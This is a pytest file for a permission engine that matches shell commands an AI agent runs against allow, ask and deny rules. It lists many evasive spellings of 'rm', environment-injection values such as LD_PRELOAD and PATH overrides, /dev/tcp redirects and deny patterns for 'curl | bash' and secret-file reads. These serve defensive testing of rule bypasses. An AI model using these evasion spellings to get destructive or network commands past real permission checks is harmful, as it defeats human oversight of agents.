"""Rules for shell commands: tables of rules, a command and the resulting effect."""

import json
from pathlib import Path

import pytest

from mcp_dispatch.model.decision import Effect
from mcp_dispatch.settings.models import PermissionMode
from tests.support.policies import ALLOW, ASK, DENY, Rules, bash, policy


def evaluate_command(workspace: Path, rules: Rules, command: str) -> Effect:
    return policy(workspace, rules).evaluate(bash(command, workspace)).effect


@pytest.mark.parametrize(
    ("allow", "command", "expected"),
    [
        # The forms of a rule.
        ("Bash", "anything; at $(all)", ALLOW),
        ("Bash(*)", "anything; at $(all)", ALLOW),
        ("Bash(npm test)", "npm test", ALLOW),
        ("Bash(npm test)", "npm   test", ALLOW),
        ("Bash(npm test)", "npm 'test'", ALLOW),
        ("Bash(npm test)", "npm test -v", ASK),
        ("Bash(npm test)", 'npm "test -v"', ASK),
        ("Bash(npm run test:*)", "npm run test", ALLOW),
        ("Bash(npm run test:*)", "npm run test -- -v", ALLOW),
        ("Bash(npm run test:*)", "npm run test:unit", ASK),
        ("Bash(npm run test:*)", "npm run", ASK),
        ("Bash(ls *)", "ls", ALLOW),
        ("Bash(ls *)", "ls -la", ALLOW),
        ("Bash(ls *)", "lsmod", ASK),
        ("Bash(ls:*)", "lsmod", ASK),
        ("Bash(ls*)", "lsmod", ALLOW),
        ("Bash(git * main)", "git push origin main", ALLOW),
        ("Bash(git * main)", "git push origin maintenance", ASK),
        ("Bash(git * main)", 'git push "origin main"', ASK),
        ("Bash(* --version)", "node --version", ALLOW),
        ("Bash(* --help *)", "git --help log", ALLOW),
        ("Bash(* --help *)", "git --help", ALLOW),
        ('Bash(git commit -m "a b")', "git commit -m 'a b'", ALLOW),
        ('Bash(git commit -m "a b")', "git commit -m a b", ASK),
        ("Bash(bash)", "bash", ALLOW),
        ("Bash(make (a) b:*)", "make '(a)' b", ASK),
        ("bash(make:*)", "make", ASK),
        ("Bash(a && b)", "a && b", ALLOW),
        ("Bash(a && b)", "a && b && c", ASK),
        ("Bash(a && *)", "a && b", ASK),
        ("Bash(for x in a; do b; done)", "for x in a; do b; done", ALLOW),
        ("Bash()", "make", ASK),
        ("Bash( )", "make", ASK),
        ("Bash(:*)", "make", ASK),
        ("Bash(make", "make", ASK),
        ("B*", "make", ASK),
        ("*", "make", ASK),
        ("Bash(git:* push)", "git -v push", ASK),
        # Every part must be allowed and understood.
        ("Bash(git log:*)", "git log; rm -rf x", ASK),
        ("Bash(git log:*)", "git log && rm x", ASK),
        ("Bash(git log:*)", "git log || rm x", ASK),
        ("Bash(git log:*)", "git log | rm x", ASK),
        ("Bash(git log:*)", "git log |& rm x", ASK),
        ("Bash(git log:*)", "git log & rm x", ASK),
        ("Bash(git log:*)", "git log\nrm x", ASK),
        ("Bash(git log:*)", "git log\r\nrm x", ASK),
        ("Bash(git log:*)", "git log $(rm x)", ASK),
        ("Bash(git log:*)", "git log `rm x`", ASK),
        ("Bash(git log:*)", "git log <(rm x)", ASK),
        ("Bash(git log:*)", "git log <<E\n$(rm x)\nE", ASK),
        ("Bash(make:*)", "(make)", ALLOW),
        ("Bash(make:*)", "{ make; }", ALLOW),
        ("Bash(git log:*)", "git log &&", ASK),
        ("Bash(git log:*)", "git log ${x@P}", ASK),
        ("Bash(git log:*)", "git \\\nlog", ASK),
        ("Bash(make:*)", "! make", ALLOW),
        ("Bash(make:*)", "time make", ALLOW),
        ("Bash(git log:*)", "git log " + "x" * 10_000, ASK),
        ("Bash(ls *)", "ls $(whoami)", ASK),
        # Expansions are covered only by a wildcard of the rule.
        ("Bash(ls *)", "ls $HOME *.py", ALLOW),
        ("Bash(git log:*)", "git $x", ASK),
        ("Bash(git log:*)", "git lo?", ASK),
        ("Bash(* log)", "$x log", ASK),
        ("Bash(git log)", "git log$x", ASK),
        # Assignments: a short list of variables with plain values.
        ("Bash(ls:*)", "LANG=C ls", ALLOW),
        ("Bash(ls:*)", "NODE_ENV=test NO_COLOR=1 ls", ALLOW),
        ("Bash(ls:*)", "LD_PRELOAD=./x.so ls", ASK),
        ("Bash(ls:*)", "PATH=./evil ls", ASK),
        ("Bash(ls:*)", "GIT_SSH_COMMAND=x ls", ASK),
        ("Bash(ls:*)", "BASH_ENV=x ls", ASK),
        ("Bash(ls:*)", 'TZ="$HOME" ls', ASK),
        ("Bash(ls:*)", "RANDOM=2+2; ls", ASK),
        ("Bash(ls:*)", "LANG=C; ls", ALLOW),
        ("Bash(ls:*)", "LANG=C", ASK),
        ("Bash(PAGER=cat git log:*)", "PAGER=cat git log -1", ALLOW),
        ("Bash(PAGER=cat git log:*)", "PAGER=evil git log -1", ASK),
        ("Bash(PAGER=cat make:*)", "make -1", ASK),
        ("Bash(* test)", "LD_PRELOAD=x npm test", ASK),
        # Wrappers: plain forms are unwrapped; the name alone allows nothing.
        ("Bash(npm test:*)", "timeout 5 npm test", ALLOW),
        ("Bash(npm test:*)", "nice -n 5 nohup npm test -v", ALLOW),
        ("Bash(npm test:*)", "stdbuf -oL -eL npm test", ALLOW),
        ("Bash(npm test:*)", "command npm test", ALLOW),
        ("Bash(npm test:*)", "timeout --foreground 5 npm test", ASK),
        ("Bash(npm test:*)", "env npm test", ASK),
        ("Bash(npm test:*)", "sudo npm test", ASK),
        ("Bash(grep foo:*)", "xargs grep foo", ALLOW),
        ("Bash(grep foo)", "xargs grep foo", ASK),
        ("Bash(grep foo:*)", "xargs -n1 grep foo", ASK),
        ("Bash(sudo:*)", "sudo rm x", ASK),
        ("Bash(sudo apt:*)", "sudo apt update", ALLOW),
        ("Bash(env:*)", "env rm x", ASK),
        ("Bash(xargs:*)", "xargs rm", ASK),
        ("Bash(timeout:*)", "timeout 5 rm x", ASK),
        ("Bash(watch:*)", "watch rm x", ASK),
        ("Bash(watch ls)", "watch ls", ALLOW),
        ("Bash(* --version)", "sudo rm --version", ASK),
        ("Bash(* --version)", "bash -c id --version", ASK),
        ("Bash(find:*)", "find . -name '*.py'", ALLOW),
        ("Bash(find:*)", "find . -exec rm {} +", ASK),
        ("Bash(find:*)", "find . \\-exec rm {} +", ASK),
        ("Bash(find:*)", "find . -delete", ASK),
        ("Bash(find:*)", "find . -fprintf f x", ASK),
        ("Bash(find:*)", "find . -delet?", ASK),
        ("Bash(find . -delete)", "find . -delete", ALLOW),
        ("Bash(printf:*)", "printf -v 'x[$(id)]' a", ASK),
        ("Bash(test:*)", "test -v 'x[`id`]'", ASK),
        ("Bash(ls:*)", "/bin/ls", ASK),
        ("Bash(ls:*)", "./ls", ASK),
        # Redirects are checked as writes.
        ("Bash(ls:*)", "ls > /dev/null 2>&1", ALLOW),
        ("Bash(ls:*)", "ls > out", ASK),
        ("Bash(ls:*)", "ls &> out", ASK),
        ("Bash(ls:*)", "ls < in", ALLOW),
        ("Bash(ls:*)", "ls < /dev/tcp/1.2.3.4/80", ASK),
        ("Bash(ls:*)", "ls > /dev/tcp/1.2.3.4/80", ASK),
        ("Bash(ls:*)", "ls >| out", ASK),
        ("Bash(ls:*)", "ls >&out", ASK),
        ("Bash(ls:*)", "> out", ASK),
    ],
)
def test_an_allow_rule_covers_exactly_its_commands(
    tmp_path: Path, allow: str, command: str, expected: Effect
):
    assert evaluate_command(tmp_path, Rules(allow=[allow]), command) is expected


@pytest.mark.parametrize(
    ("allow", "command", "expected"),
    [
        (["Bash(npm run test:*)", "Bash(head:*)"], "npm run test | head", ALLOW),
        (["Bash(ls:*)", "Edit(out/**)"], "ls > out/x", ALLOW),
        (["Bash(ls:*)", "Edit(out/**)"], "ls > other/x", ASK),
        (["Bash(ls:*)", "Edit(out/**)"], "ls > out/../other/x", ASK),
        (["Bash(ls:*)", "Edit(out/**)"], "ls > out/$x", ASK),
        (["Bash(ls:*)", "Edit(out/**)"], "ls > out/*", ASK),
        (["Bash(ls:*)", "Edit(out/**)"], "ls >> out/.git/config", ASK),
        (["Bash(ls:*)", "Edit(//**)"], "ls > /elsewhere/x", ASK),
        (["Bash(ls:*)", "Edit(//**)"], "ls > ~/x", ASK),
        (["Bash(ls:*)", "Bash(cd:*)", "Edit(out/**)"], "cd other && ls > out/x", ASK),
        (["Bash(ls:*)", "Bash(cd:*)"], "cd $x && ls", ASK),
        (["Bash(ls:*)", "Bash(cd:*)"], "cd - && ls", ASK),
        (["Bash(ls:*)", "Bash(cd:*)"], "cd src && ls", ALLOW),
        (["Bash(ls:*)", "Bash(cd:*)"], "cd && ls", ASK),
        (["Bash(ls:*)", "Bash(pushd:*)"], "pushd a; ls", ASK),
        (["Bash(echo:*)", "Bash(cd:*)", "Edit(./**)"], "cd .claude && echo x > settings.json", ASK),
    ],
)
def test_several_rules_together_cover_a_compound_command(
    tmp_path: Path, allow: list[str], command: str, expected: Effect
):
    assert evaluate_command(tmp_path, Rules(allow=allow), command) is expected


SPELLINGS_OF_RM = [
    *("rm", "rm x", "rm -rf x", "  rm\tx", "a; rm x", "a && rm x", "a || rm x", "a | rm x"),
    *("a |& rm x", "a & rm x", "a\nrm x", "a\r\nrm x", "r\\m x", '"r"m x', "'rm' x", "$'rm' x"),
    *("$'\\x72m' x", '$"rm" x', "r\\\nm x", "{rm,-rf,x}", "/bin/rm x", "../../bin/rm x"),
    *("FOO=bar rm x", "A=1 B=2 rm x", "X=rm; $X y", "X=rm; ${X} y", "X='rm -rf'; $X y"),
    *("declare X=rm; $X y", "export X=rm && $X y", "> f rm x", "2>&1 rm x", "<in rm x"),
    *("sudo rm x", "sudo -u bob rm x", "sudo -n -- rm x", "env rm x", "env -i A=1 rm x"),
    *("env -u A rm x", "env -S 'rm x'", "env -S'rm x'", "env --split-string='rm x'"),
    *("timeout 5 rm x", "timeout -s KILL 5 rm x", "timeout --signal=KILL 5 rm x"),
    *("timeout --sig KILL 5 rm x", "nice rm x", "nice -n 5 rm x", "nice -5 rm x", "nohup rm x"),
    *("stdbuf -oL rm x", "command rm x", "command -p rm x", "builtin rm x", "exec rm x"),
    *("exec -a ls rm x", "xargs rm", "xargs -n1 -t rm", "xargs -I{} rm {}", "watch rm x"),
    *("watch -n 1 'rm x'", "ionice -c 3 rm x", "setsid -w rm x", "flock f rm x", "doas rm x"),
    *("busybox rm x", "time rm x", "/usr/bin/time -v rm x", "! rm x", "! ! rm x", "coproc rm x"),
    *("ssh host rm x", "ssh host 'rm x'", "su -c 'rm x'", "parallel rm", "strace -f rm x"),
    *("bash -c 'rm x'", "sh -lc 'rm x'", 'bash -c "rm $x"', "/bin/sh -c 'a; rm x'"),
    *("bash -c \"bash -c 'rm x'\"", "sudo bash -c 'rm x'", "busybox sh -c 'rm x'", "eval rm x"),
    *("eval 'rm x'", 'eval "a; rm x"', "trap 'rm x' EXIT", "find . -exec rm {} +"),
    *("find . -name a -ok rm {} \\;", "echo $(rm x)", "echo `rm x`", 'echo "$(rm x)"'),
    *("cat <(rm x)", "(rm x)", "{ rm x; }", "((a)); rm x", "if a; then rm x; fi"),
    *("for i in a; do rm x; done", "while a; do rm x; done", "case a in a) rm x;; esac"),
    *("f() { rm x; }; f", "cat <<E\n$(rm x)\nE", "cat <<E\nit's\nE\nrm x", "a ${b:-$(rm x)}"),
    *("a && (b; (rm x))", "[[ -n $(rm x) ]]", "echo 'a'\"'\"';'; rm x", "test -v 'x[$(rm y)]'"),
    *(
        "a &&\nrm x",
        "rm x &&",
        "true;" * 49 + "rm x",
        "true;" * 50 + "rm x",
        "true;" * 500 + "rm x",
    ),
    *("echo " + "a" * 20_000 + "; rm x", "echo " + "a" * 200_000, "rm x # a", "# a\nrm x"),
    *("bash -c " * 10 + "'rm x'", "bash -c '$0 x' rm", "bash -ec 'rm x'", "$DIR/rm x", "~/rm x"),
    *("find . -exec sh -c 'rm x' \\;", "X=r; Y=m; $X$Y z", '"$(printf rm)" x', "set -- rm x; $@"),
]


@pytest.mark.parametrize("command", SPELLINGS_OF_RM, ids=lambda command: command[:40])
@pytest.mark.parametrize("mode", [PermissionMode.DEFAULT, PermissionMode.BYPASS_PERMISSIONS])
def test_a_deny_rule_finds_its_command_in_every_spelling_and_depth(
    tmp_path: Path, command: str, mode: PermissionMode
):
    configured = policy(tmp_path, Rules(allow=["Bash"], deny=["Bash(rm:*)"]), mode)

    assert configured.evaluate(bash(command, tmp_path)).effect is DENY


@pytest.mark.parametrize("command", SPELLINGS_OF_RM, ids=lambda command: command[:40])
def test_an_ask_rule_finds_its_command_in_every_spelling_and_depth(tmp_path: Path, command: str):
    asking = policy(
        tmp_path, Rules(allow=["Bash"], ask=["Bash(rm:*)"]), PermissionMode.BYPASS_PERMISSIONS
    )

    assert asking.evaluate(bash(command, tmp_path)).effect is ASK


@pytest.mark.parametrize(
    "command",
    [
        *("$X y", "r${x}m y", "rm$IFS-rf", "$x$y", "r? y", "/bin/r* y", "r{m,x} y", "{r,x}m y"),
        *("r`echo m` x", "r$(echo m) x", 'bash -c "$X"', "sudo $X y", "eval $X"),
    ],
)
def test_an_expanded_command_asks_if_a_deny_could_match_it(tmp_path: Path, command: str):
    configured = policy(tmp_path, Rules(deny=["Bash(rm:*)"]), PermissionMode.BYPASS_PERMISSIONS)

    decision = configured.evaluate(bash(command, tmp_path))

    assert decision.effect is ASK
    assert decision.by.reason == "only the running shell knows whether a deny rule means this"


@pytest.mark.parametrize(
    ("deny", "command"),
    [
        ("Bash(rm:*)", "rmdir x"),
        ("Bash(rm:*)", "echo rm"),
        ("Bash(rm:*)", "git rm x"),
        ("Bash(rm:*)", "echo 'rm x'"),
        ("Bash(rm:*)", "grep -r 'rm x' ."),
        ("Bash(rm:*)", "git commit -m 'rm x; rm y'"),
        ("Bash(rm:*)", "command -v rm"),
        ("Bash(rm:*)", "timeout 5 grep rm file"),
        ("Bash(rm:*)", "if true; then echo 'do not rm this'; fi"),
        ("Bash(rm:*)", "cat $FILE"),
        ("Bash(rm:*)", 'bash build.sh "$VERSION" rm'),
        ("Bash(git push:*)", "git pull; echo push"),
        ("Bash(npm publish)", "npm publish --dry-run"),
        ("Bash(bash:*)", "cat bash"),
        ("Read(./**/build/**)", "npm run build"),
        ("Read(.env)", "grep .env .gitignore"),
        ("Read(.env)", "echo .env"),
    ],
)
def test_a_deny_rule_does_not_deny_other_commands(tmp_path: Path, deny: str, command: str):
    assert evaluate_command(tmp_path, Rules(allow=["Bash"], deny=[deny]), command) is ALLOW


@pytest.mark.parametrize(
    ("deny", "command"),
    [
        ("Bash(git push:*)", "git -C /elsewhere push"),
        ("Bash(git push:*)", "git -c a.b=c --no-pager push origin"),
        ("Bash(git push:*)", "git >f push"),
        ("Bash(git push:*)", "(git 2>f push)"),
        ("Bash(git push --force*)", "git push --force-with-lease"),
        ("Bash(git:* push)", "git -v push"),
        ("Bash(curl * | bash)", "curl x | bash"),
        ("Bash(curl * | bash)", "true; curl  x |  bash"),
        ("Bash(rm -rf $HOME)", "rm -rf $HOME"),
        ("Bash(npm publish)", "npm publish"),
        ("Bash(npm publish)", "for x in a; do npm publish; done"),
        ("Bash(*secret*)", "cat my-secret-file"),
        ("Bash(run_in_background:true)", "ls"),
        ("Bash(ls", "ls"),
        ("Bash()", "ls"),
        ("Bash (ls)", "ls"),
        ("Bash(ls\x00)", "pwd"),
        ("B*(ls)", "pwd"),
        ("B*", "ls"),
        ("*", "ls"),
    ],
)
def test_deny_rules_of_every_form_match(tmp_path: Path, deny: str, command: str):
    subject = bash(command, tmp_path)
    if "background" in deny:
        subject.literal_arguments["run_in_background"] = True

    assert policy(tmp_path, Rules(allow=["Bash"], deny=[deny])).evaluate(subject).effect is DENY


def test_the_longest_wildcard_rule_matches_the_longest_command_quickly(tmp_path: Path):
    stars = "*a" * 200
    rules = Rules(deny=[f"Bash({stars}*b)"], ask=["Bash(**/**/**/x)"])

    decision = policy(tmp_path, rules).evaluate(bash("a" * 100_000, tmp_path))

    assert decision.effect is ASK


def test_a_denial_names_the_rule_its_file_and_its_line(tmp_path: Path):
    rules = Rules(allow=["Bash", "Read"], deny=["Bash(ls)", "Bash(rm:*)"])

    decision = policy(tmp_path, rules).evaluate(bash("rm x", tmp_path))

    assert decision.by.reason == "a deny rule forbids it"
    assert str(decision.by.origin) == "Bash(rm:*) in /config/settings.json:4"
    assert [(vote.effect, str(vote.origin)) for vote in decision.votes] == [
        (DENY, "Bash(rm:*) in /config/settings.json:4"),
        (ALLOW, "Bash in /config/settings.json:1"),
        (ASK, "permission mode default"),
    ]


@pytest.mark.parametrize(
    ("command", "line"),
    [
        ("npm test", '"allow": ["Bash(npm test:*)"]'),
        ("npm run build -- -v", '"allow": ["Bash(npm run build:*)"]'),
        ("ls -la /x", '"allow": ["Bash(ls:*)"]'),
        ("make && make install", '"allow": ["Bash(make:*)", "Bash(make install:*)"]'),
        ("python x.py --a", '"allow": ["Bash(python x.py --a)"]'),
        ("bash -c 'a b'", '"allow": ["Bash(bash -c \'a b\')"]'),
        ("find . -delete", '"allow": ["Bash(find . -delete)"]'),
        ("A=1 make", '"allow": ["Bash(A=1 make)"]'),
        ("for x in a; do b; done", '"allow": ["Bash(b:*)"]'),
        ("case a in a) b;; esac", '"allow": ["Bash"]'),
    ],
)
def test_the_suggested_line_is_exact_and_would_allow_the_command(
    tmp_path: Path, command: str, line: str
):
    undecided = policy(tmp_path)
    subject = bash(command, tmp_path)

    assert undecided.suggest_allow_line(subject) == line
    allow = json.loads("{" + line + "}")["allow"]
    assert evaluate_command(tmp_path, Rules(allow=allow), command) is ALLOW


def test_a_command_that_is_not_understood_gets_a_reason_and_advice(tmp_path: Path):
    decision = policy(tmp_path).evaluate(bash("((ls))", tmp_path))

    assert decision.undecided
    assert decision.by.reason == (
        "no rule covers this, and the command is not fully understood (it computes): split it into"
        " simple commands"
    )
